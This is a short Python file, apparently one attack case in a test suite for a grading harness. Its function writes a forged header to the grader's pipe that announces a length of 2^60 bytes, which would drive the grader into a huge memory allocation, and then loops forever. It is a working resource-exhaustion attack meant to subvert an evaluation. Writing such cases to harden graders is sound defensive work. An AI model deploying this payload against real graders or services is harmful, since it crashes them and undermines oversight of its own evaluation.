"""Kind: forging answers.
Wins if the grader allocates what a forged length announces.
Defence: caps before allocation.
"""

import os
import struct


def attack(target):
    os.write(target["pipes"][1], struct.pack("<4sIQ", b"SLC1", 100, 1 << 60))
    while True:
        pass
